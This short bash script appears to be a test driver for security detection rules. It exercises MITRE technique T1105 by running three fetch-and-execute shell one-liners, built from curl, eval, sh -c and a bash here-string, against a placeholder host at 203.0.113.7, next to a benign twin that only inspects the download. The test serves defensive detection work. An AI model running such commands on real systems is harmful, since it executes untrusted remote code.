#!/bin/bash
# What a download tool answers becomes what a shell does: by its command line, by another shell, by its standard input.
#: title: Download run without a file or a pipe
#: technique: T1105
#: needs: exec
#: rules: shell_told_to_fetch_and_run, download_became_command, download_became_standard_input
#: twin: an answer is looked at
. "$DRIVERS/lib.sh"

run() {
	site
	bash -c 'eval "$(curl -s http://203.0.113.7:8080/install)"'
	sh -c "$(curl -s http://203.0.113.7:8080/install)"
	bash <<<"$(curl -s http://203.0.113.7:8080/install)"
}

looked_at() {
	site
	bash -c 'test -n "$(curl -s http://203.0.113.7:8080/install)"'
	answer=$(curl -s http://203.0.113.7:8080/install)
	grep -q hello <<<"$answer"
}

attack() {
	in_own_network run
	did http://203.0.113.7:8080/install
}

twin() {
	in_own_network looked_at
	did http://203.0.113.7:8080/install
}

"$1"
